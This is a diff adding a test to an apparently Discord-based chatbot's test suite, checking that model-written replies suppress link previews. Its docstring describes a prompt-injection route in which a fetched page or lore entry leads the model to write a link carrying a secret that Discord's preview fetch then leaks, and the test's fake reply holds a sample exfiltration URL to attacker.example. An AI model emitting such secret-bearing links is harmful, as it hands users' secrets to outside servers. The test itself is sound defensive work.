@@ -133,3 +133,14 @@ async def test_a_reply_deleted_before_the_bot_links_it_leaves_the_store(
         await asyncio.sleep(0.05)
     else:
         raise AssertionError("the deleted reply is still stored")
+
+
+async def test_a_reply_the_model_wrote_shows_no_link_previews(live: tuple[FakeDiscord, App]) -> None:
+    """Discord's servers fetch a link to preview it at once: a model talked into writing a link with a secret in
+    it (by a fetched page, a lore entry) handed the secret to that link's server without anyone clicking."""
+    fake, app = live
+    app.llm.enqueue("See https://attacker.example/?secret=abc for more.")  # type: ignore[attr-defined]
+    sent = fake.dispatch_message("hello")
+    await fake.wait_until_async(lambda f: "attacker.example" in " ".join(shown(f, sent.channel_id)))
+    bodies = [m.body for m in fake.messages_in(sent.channel_id)] + [e.body for e in fake.edits]
+    assert bodies and all(int(body.get("flags") or 0) & 4 for body in bodies), bodies  # SUPPRESS_EMBEDS
